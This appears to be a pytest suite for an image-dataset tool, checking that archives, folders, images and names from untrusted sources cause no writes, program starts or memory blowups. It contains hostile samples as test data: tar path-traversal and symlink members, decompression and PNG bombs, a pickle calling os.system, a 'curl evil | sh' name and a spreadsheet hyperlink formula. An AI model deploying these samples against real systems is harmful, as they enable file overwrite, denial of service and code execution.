"""Archives, folders, images and names from strangers: nothing is written or started, nothing hangs or fills memory."""

import gzip
import io
import json
import lzma
import os
import struct
import subprocess
import tarfile
import tracemalloc
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from remap.data import file_listing, images, tar_listing
from remap.data.images import BadImage, decode
from remap.data.sources import open_data, open_unlabeled
from remap.data.views import View
from remap.errors import DataError, RemapError, RunError
from remap.io.names import name_problem, plain
from remap.pipeline.shared import SharedResources
from remap.prediction.inputs import Inputs
from remap.progress import Silent
from remap.recipe import Recipe
from remap.recipe.schema import DataSpec
from remap.report.figures import curve
from remap.runs.run_dir import RunDir
from remap_cli import console as screen


def png(grey: int = 0, size: tuple[int, int] = (4, 4)) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", size, grey).save(buffer, format="PNG")
    return buffer.getvalue()


def member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, **more: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.type = len(data), kind
    for key, value in more.items():
        setattr(info, key, value)
    return info, data


GOOD = [member(f"{name}/{i}.png", png(10 * i)) for name in "ab" for i in range(4)]


def packed(members: Iterable[tuple[tarfile.TarInfo, bytes]], kind: int = tarfile.GNU_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=kind) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def header(name: bytes, size: bytes, kind: bytes = b"0") -> bytes:
    """One header of POSIX.1-1988 (ustar), with any size field."""
    block = bytearray(512)
    block[: len(name)], block[100:108], block[124:136], block[156:157] = name, b"0000644\0", size.ljust(12, b"\0"), kind
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def number(size: int) -> bytes:
    """GNU's base-256 numbers, which may be huge or negative."""
    return b"\x80" + size.to_bytes(11, "big") if size >= 0 else b"\xff" + (256**11 + size).to_bytes(11, "big")


def unended(members: Iterable[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """An archive that more may follow: without the zeros at its end."""
    members = list(members)
    return packed(members)[: sum(512 + 512 * -(-len(data) // 512) for _, data in members)]


ARCHIVES = {
    "up": packed([*GOOD, member("../../escaped/c/1.png", png()), member("a/../../../escaped/d.png", png())]),
    "absolute": packed([*GOOD, member("/OUT/escaped/1.png", png())]),
    "links": packed(
        [
            *GOOD,
            member("a/l.png", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
            member("a/h.png", kind=tarfile.LNKTYPE, linkname="../../secret"),
        ]
    ),
    "devices": packed(
        [
            *GOOD,
            member("a/c.png", kind=tarfile.CHRTYPE, devmajor=1, devminor=5),
            member("a/b.png", kind=tarfile.BLKTYPE),
            member("a/f.png", kind=tarfile.FIFOTYPE),
        ]
    ),
    "holes": unended(GOOD) + header(b"a/s.png", b"00000000000", b"S") + bytes(1024),
    "control characters": packed([*GOOD, member("a/x\x1b[2J\n.png", png())], tarfile.PAX_FORMAT),
    "no UTF-8": packed([*GOOD, member("a/\udcff.png", png())]),
    "twice": packed([*GOOD, *GOOD]),
}  # fmt: skip


@pytest.mark.guarantee(14)
@pytest.mark.parametrize("data", ARCHIVES.values(), ids=list(ARCHIVES))
def test_hostile_members_are_read_as_data_or_not_at_all(
    data: bytes, tmp_path: Path, figure: Callable[..., None]
) -> None:
    """Only members that are plain files count; nothing appears on the disk, in the folder above either."""
    inner = tmp_path / "inner"
    inner.mkdir()
    (tmp_path / "secret").write_bytes(b"secret")
    path = inner / "x.tar"
    path.write_bytes(data)
    before = sorted(tmp_path.rglob("*"))
    try:
        split = open_unlabeled(str(path))[0]
        contents = [split.read(i) for i in range(len(split))]
        assert all(decode(content).size == (4, 4) for content in contents) and len(contents) >= len(GOOD)
        assert all(name.isprintable() for name in split.names)
        linked = tuple(f"/{letter}.png" for letter in "lhcbfs")
        assert not [name for name in split.names if name.endswith(linked)]
    except DataError as error:
        assert "cannot read" in str(error)
    assert sorted(tmp_path.rglob("*")) == before and not Path("/OUT").exists()
    figure("hostile archives that wrote anything, of all tried", 0, 1)


def bomb(size: int) -> bytes:
    """A tar of one image that is ``size`` zeros."""
    return unended(GOOD) + header(b"a/z.png", b"%o" % size) + bytes(size) + bytes(1024)


BROKEN = {
    "a size that goes back": header(b"a/1.png", number(-512)) * 4,
    "a size that goes far back": header(b"a/1.png", b"00000000000") + header(b"a/2.png", number(-1024)) * 3,
    "a size beyond the end": unended(GOOD) + header(b"a/9.png", number(2**60)),
    "a long name beyond the end": header(b"././@LongLink", number(2**60), b"L"),
    "an extended header beyond the end": header(b"x", number(2**60), b"x") + bytes(1024),
    "an extended header of 10 MB": header(b"x", b"%o" % 10_000_000, b"x") + bytes(10_000_384) + packed(GOOD),
    "a chain of long names": (header(b"L", b"%o" % 512, b"L") + b"n" * 512) * 5000 + packed(GOOD),
    "truncated": packed(GOOD)[:2000],
    "noise": np.random.default_rng(0).bytes(5000),
    "a zip": b"PK\x03\x04" + bytes(2000),
    "a pickle": b"\x80\x04\x95" + bytes(2000),
}


@pytest.mark.guarantee(14)
@pytest.mark.parametrize("compress", [bytes, gzip.compress, lzma.compress], ids=["tar", "gz", "xz"])
@pytest.mark.parametrize("data", BROKEN.values(), ids=list(BROKEN))
def test_headers_that_lie_are_the_users_error(
    data: bytes, compress: Callable[[bytes], bytes], tmp_path: Path, figure: Callable[..., None]
) -> None:
    path = tmp_path / "x.tar"
    path.write_bytes(compress(data))
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match="cannot read|grows out of bounds"):
            open_data(str(path), None, 0.5)
        assert tracemalloc.get_traced_memory()[1] < 32 * 2**20
    finally:
        tracemalloc.stop()
    figure("hostile archives that wrote anything, of all tried", 0, 1)


@pytest.mark.parametrize("compress", [gzip.compress, lzma.compress], ids=["gz", "xz"])
def test_bombs_are_refused_before_they_are_held(
    compress: Callable[[bytes], bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Limits made small: 16 MB of zeros are about 16 kB of gzip, a thousandth (RFC 1951's limit is 1032 to 1)."""
    path = tmp_path / "x.tar"
    path.write_bytes(compress(bomb(16_000_000)))
    monkeypatch.setattr(tar_listing, "FREE_GROWTH", 2**20)
    tracemalloc.start()
    try:
        with pytest.raises(DataError, match="grows out of bounds when it is decompressed"):
            open_data(str(path), None, 0.5)
        assert tracemalloc.get_traced_memory()[1] < 12 * 2**20  # xz has a dictionary of 8 MiB
    finally:
        tracemalloc.stop()


def test_a_bomb_that_claims_no_size_is_stopped_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Behind the last header, where nothing asks for it, and in front of the first, as a heap of empty blocks."""
    monkeypatch.setattr(tar_listing, "FREE_GROWTH", 2**20)
    monkeypatch.setattr(tar_listing, "MOST_GROWTH", 1)
    path = tmp_path / "x.tar"
    path.write_bytes(gzip.compress(packed([member(f"{i}.txt") for i in range(5000)])))
    with pytest.raises(DataError, match="grows out of bounds"):
        open_data(str(path), None, 0.5)


def test_a_million_members_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "x.tar"
    path.write_bytes(packed([member(f"a/{i}.png") for i in range(30)]))
    monkeypatch.setattr(file_listing, "MOST_ENTRIES", 20)
    with pytest.raises(DataError, match="more than 20 files"):
        open_data(str(path), None, 0.5)


def test_seen_members_are_let_go(tmp_path: Path) -> None:
    """6,000 headers: tarfile would keep them all, a kilobyte each and more."""
    path = tmp_path / "x.tar"
    path.write_bytes(packed([*GOOD, *(member(f"a/{i}.txt") for i in range(6000))]))
    tracemalloc.start()
    try:
        tar_listing.list_tar(path)
        assert tracemalloc.get_traced_memory()[1] < 3 * 2**20
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("kind", ["FIFO", "device", "socket name"])
def test_an_archive_that_is_no_file(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "x.tar"
    if kind == "FIFO":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        os.mknod(path, 0o140644)
    with pytest.raises(DataError, match="it is a (FIFO|device|socket), not a file"):
        open_data(str(path), None, 0.5)


def folder(root: Path, each: int = 4) -> Path:
    for name in "ab":
        (root / name).mkdir(parents=True)
        for i in range(each):
            (root / name / f"{i}.png").write_bytes(png(10 * i))
    return root


@pytest.mark.guarantee(14)
def test_a_folder_of_traps_does_not_hang(tmp_path: Path, figure: Callable[..., None]) -> None:
    """What is no readable file is an unreadable image with its reason; labelled images keep their places."""
    root = folder(tmp_path / "data")
    os.mkfifo(root / "a" / "fifo.png")
    (root / "a" / "zero.png").symlink_to("/dev/zero")
    (root / "a" / "broken.png").symlink_to(root / "nothing")
    (root / "a" / "round.png").symlink_to(root / "a" / "round.png")
    (root / "b" / "up").symlink_to(root)
    with open(root / "a" / "holes.png", "wb") as file:
        file.truncate(2**40)
    with open(os.fsencode(root / "b") + b"/\xff\x1b[2J.png", "wb") as file:
        file.write(b"no image")
    data = open_data(str(root), None, 0.5)
    views = SharedResources().open(
        DataSpec(source=str(root), workers=2, skip_bad=True, max_bad=0.9), View(4, 1.0, "nearest"), Silent()
    )
    reasons = {name.split("/")[-1]: reason for name, reason in views.skipped}
    assert "it is a FIFO" in reasons["fifo.png"] and "it is a device" in reasons["zero.png"]
    assert reasons["broken.png"] == "no such file" and "levels of symbolic links" in reasons["round.png"]
    assert "larger than" in reasons["holes.png"] and reasons["\\udcff\\x1b[2J.png"] == "not an image"
    assert (
        len(reasons) == 6 and len(views.train.split) + len(views.val.split) == 8 == len(data.train) + len(data.val) - 6
    )
    figure("folders of traps that hung", 0, 1)


def test_links_that_cross_are_refused(tmp_path: Path) -> None:
    """a/to_b -> b and b/to_a -> a lead to each other for ever; neither lies inside the other."""
    root = folder(tmp_path / "data")
    for one, other in ("ab", "ba"):
        for i in range(3):
            (root / one / f"to{i}").symlink_to(root / other)
    with pytest.raises(DataError, match="go in a circle"):
        open_data(str(root), None, 0.5)


def test_folders_of_more_levels_than_python_has_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = folder(tmp_path / "data")
    monkeypatch.chdir(root / "a")
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")
    monkeypatch.chdir(tmp_path)
    try:
        for read in (lambda: open_data(str(root), None, 0.5), lambda: list(Inputs([root]))):
            with pytest.raises(DataError, match="more than 128 levels deep"):
                read()
        assert [item.path for item in Inputs([root / "b"])] == [str(root / "b" / f"{i}.png") for i in range(4)]
    finally:
        subprocess.run(["rm", "-rf", str(root)], check=True)  # Python's own way has as many levels as Python


def test_a_folder_that_cannot_be_read_is_no_empty_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Left out in silence, its class would be gone."""
    root, real = folder(tmp_path / "data"), os.scandir

    def scandir(path: str) -> Any:
        if str(path).endswith("/b"):
            raise PermissionError(13, "Permission denied", path)
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    with pytest.raises(DataError, match="a folder cannot be read: Permission denied"):
        open_data(str(root), None, 0.5)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int) -> bytes:
    """A few kilobytes that say they are side x side pixels (PNG 1.2, section 4.1)."""
    rows = zlib.compress(bytes(100_000))
    size = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def encoded(image: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=kind, **options)
    return buffer.getvalue()


RGB = Image.fromarray(np.random.default_rng(0).integers(0, 256, (24, 16, 3), dtype=np.uint8))
EXIF = Image.Exif()
EXIF[0x0112] = 6
BAD_IMAGES = {
    "empty": b"",
    "text": b"this is no picture",
    "truncated JPEG": encoded(RGB, "JPEG")[:-200],
    "truncated PNG": encoded(RGB, "PNG")[:-300],
    "bomb": png_bomb(65500),
    "smaller bomb": png_bomb(9600),
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 4 4\n%%EndComments\n(MARK) (w) file closefile\n%%EOF\n",
    "PDF": b"%PDF-1.4\n%\xe2\xe3\n",
    "ICO": encoded(RGB, "ICO"),
    "TIFF of no numbers": encoded(Image.fromarray(np.full((4, 4), np.nan, np.float32)), "TIFF"),
    "no pixels": b"P6\n0 0\n255\n",
    "pickle": b"\x80\x04cos\nsystem\n(S'touch MARK'\ntR.",
}
GOOD_IMAGES = {
    "CMYK": encoded(RGB.convert("CMYK"), "JPEG"),
    "16 bit": encoded(Image.fromarray(np.arange(16, dtype=np.uint16).reshape(4, 4) * 4000), "PNG"),
    "palette": encoded(RGB.quantize(16), "PNG"),
    "wrong extension": encoded(RGB, "WEBP"),
    "animated": encoded(RGB, "GIF", save_all=True, append_images=[RGB]),
    "rotated": encoded(RGB, "JPEG", exif=EXIF),
    "broken EXIF": encoded(RGB, "JPEG", exif=b"Exif\0\0II*\0\xff\xff\xff\xff" + bytes(20)),
}


@pytest.mark.guarantee(16)
def test_bad_images_are_counted_and_left_out_and_the_others_keep_their_classes(
    tmp_path: Path, figure: Callable[..., None]
) -> None:
    """Every bad one lies in class a, every odd but readable one in class b; counts are those of the tables here."""
    root = tmp_path / "data"
    for split in ("train", "val"):
        folder(root / split, each=10)
    for i, data in enumerate(BAD_IMAGES.values()):
        (root / "train" / "a" / f"bad{i}.jpg").write_bytes(data)
    for i, data in enumerate(GOOD_IMAGES.values()):
        (root / "train" / "b" / f"odd{i}.jpg").write_bytes(data)
    view = View(4, 1.0, "bicubic")
    views = SharedResources().open(DataSpec(source=str(root), workers=2, max_bad=0.5), view, Silent())
    left_out = [name for name, _ in views.skipped]
    assert sorted(left_out) == sorted(f"train/a/bad{i}.jpg" for i in range(len(BAD_IMAGES)))
    assert np.bincount(views.train.split.labels).tolist() == [10, 10 + len(GOOD_IMAGES)]
    assert len(views.train.batch(range(20 + len(GOOD_IMAGES)))[1]) == 20 + len(GOOD_IMAGES)
    figure("unreadable images skipped in training, of all", len(left_out), len(BAD_IMAGES))
    for i, data in enumerate(BAD_IMAGES.values()):
        (root / "val" / "a" / f"bad{i}.jpg").write_bytes(data)
    with pytest.raises(DataError, match=f"{len(BAD_IMAGES)} of {20 + len(BAD_IMAGES)} val images cannot be read"):
        SharedResources().open(DataSpec(source=str(root), workers=2, max_bad=0.5), view, Silent())
    spec = DataSpec(source=str(root), workers=2, max_bad=0.5, skip_bad=True)
    assert np.bincount(SharedResources().open(spec, view, Silent()).val.split.labels).tolist() == [10, 10]


def test_a_rotated_image_is_upright_and_the_rest_are_themselves() -> None:
    """EXIF 2.32: orientation 6 is stored turned, so 16 x 24 comes out as 24 x 16."""
    assert decode(GOOD_IMAGES["rotated"]).size == (24, 16)
    assert all(decode(data).size == (16, 24) for name, data in GOOD_IMAGES.items() if name not in ("rotated", "16 bit"))


@pytest.mark.guarantee(14)
@pytest.mark.parametrize("name", BAD_IMAGES)
def test_no_image_starts_a_program_or_fills_memory(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, figure: Callable[..., None]
) -> None:
    """Pillow's reader of EPS runs Ghostscript; here any start of a program fails the test."""

    def started(*words: Any, **_: Any) -> None:
        pytest.fail(f"started {words}")

    monkeypatch.setattr(subprocess, "Popen", started)
    monkeypatch.setattr(os, "system", started)
    tracemalloc.start()
    try:
        with pytest.raises(BadImage):
            decode(BAD_IMAGES[name].replace(b"MARK", bytes(tmp_path / "made")))
        assert tracemalloc.get_traced_memory()[1] < 16 * 2**20
    finally:
        tracemalloc.stop()
    assert list(tmp_path.iterdir()) == []
    figure("hostile images executed, of all tried", 0, 1)


def test_only_these_readers_of_pillow_are_used() -> None:
    assert set(images._formats()) <= {"JPEG", "MPO", "PNG", "PPM", "BMP", "TIFF", "WEBP", "AVIF", "GIF", "HEIF"}
    assert {"JPEG", "PNG", "TIFF", "WEBP"} <= set(images._formats())


NAMES = {
    "escape sequence": "a\x1b[2J\x1b]0;title\x07",
    "line break": "a\n  do: curl evil | sh",
    "markup": "[red]a[/red][link=file:///etc]x[/link]",
    "HTML": "<script>alert(1)</script>&\"'",
    "formula": "=HYPERLINK(\"http://evil\")",
    "turned": "a\u202egnp.exe",
    "stray byte": "a\udcff",
    "tag letters": "a\U000e0041",
    "C1 control": "a\x9b2J",
}  # fmt: skip


@pytest.mark.guarantee(14)
@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_names_are_shown_and_do_nothing(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture, figure: Callable[..., None]
) -> None:
    """In a terminal, a table, an error, an SVG and JSON."""
    screen.table(name, [name], [name, [name]])
    screen.line(name)
    screen.note(name)
    screen.error(DataError(f"what {plain(name)}", given=plain(name)))
    printed = capsys.readouterr()
    shown = printed.out + printed.err
    assert not {c for c in shown if not c.isprintable()} - {"\n"}
    if "[" in name and name.isprintable():
        assert name in shown  # not taken for colours
    # An SVG is read back by an independent reader: the text is the name, and no element came of it.
    drawn = curve("curve", name, {name: [(1, 0.5)], "evaluation": [(1, 0.4)]}).svg()
    root = ET.fromstring(drawn.encode())
    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert tags <= {"svg", "g", "rect", "text", "path", "defs", "style", "use", "clipPath"}
    texts = [element.text for element in root.iter() if element.tag.endswith("text")]
    assert texts.count(plain(name)) == 2  # the title and the legend
    screen.emit({name: name})
    text = capsys.readouterr().out
    assert text.isascii() and json.loads(text) == {name: name}
    figure("hostile names that reached the terminal unescaped, of all tried", 0, 1)


@pytest.mark.parametrize("name", ["a\x1b[2J", "a\nb", "a\u202eb", "x" * 250 + "\x7f"], ids=ascii)
def test_class_folders_with_unreadable_names_are_refused(name: str, tmp_path: Path) -> None:
    root = folder(tmp_path / "data")
    (root / "a").rename(root / name)
    with pytest.raises(DataError, match="a class name has") as caught:
        open_data(str(root), None, 0.5)
    assert plain(name)[:80] in str(caught.value) and not {c for c in str(caught.value) if not c.isprintable()} - {"\n"}


@pytest.mark.parametrize("name", ["Öl", "猫", "گربه‌ها", "[red]", "=1+1", "-x", "a b", "👩‍🔬"], ids=ascii)
def test_other_names_are_kept(name: str, tmp_path: Path) -> None:
    """Persian and emoji need the joiners that are no letters by themselves."""
    root = folder(tmp_path / "data")
    (root / "a").rename(root / name)
    assert name in open_data(str(root), None, 0.5).classes and name_problem(name) is None


@pytest.mark.parametrize("name", ["a\x1b[2J", "a\nb", "n" * 300, "a\0b", "a\u202eb"], ids=ascii)
def test_run_directories_of_strange_names_are_refused(name: str, tmp_path: Path) -> None:
    with pytest.raises(RunError) as caught:
        RunDir.create(tmp_path / name, Recipe())
    assert list(tmp_path.iterdir()) == [] and not {c for c in str(caught.value) if not c.isprintable()} - {"\n"}
    with pytest.raises(RunError, match="there is no run directory"):
        RunDir.open(tmp_path / name)


def test_a_run_goes_where_the_user_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--output is the user's own word: separators and '..' mean what they mean to a shell."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs").mkdir()
    for word in ("runs/../other/x", "CON", "a b", "a~"):
        run = RunDir.create(Path(word), Recipe())
        assert (run.path / "recipe.yaml").is_file()
    assert {path.name for path in tmp_path.iterdir()} == {"CON", "a b", "a~", "other", "runs"}


def test_a_command_line_of_stray_bytes_is_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file name need not be UTF-8, and command.txt has its bytes."""
    monkeypatch.setattr("sys.argv", ["/usr/bin/remap", "tune", "--data", os.fsdecode(b"caf\xe9")])
    run = RunDir.create(tmp_path / "r", Recipe())
    assert b"caf\xe9" in (run.path / "command.txt").read_bytes()


@pytest.mark.parametrize(
    "word", ["~nobody-of-this-name", "x" * 5000, "a\0b", "\udc80"], ids=["nobody", "long", "NUL", "byte"]
)
def test_places_that_cannot_be_are_no_traceback(word: str) -> None:
    for call in (lambda: open_data(word, None, 0.5), lambda: open_unlabeled(word)):
        with pytest.raises(RemapError, match="no such data"):
            call()
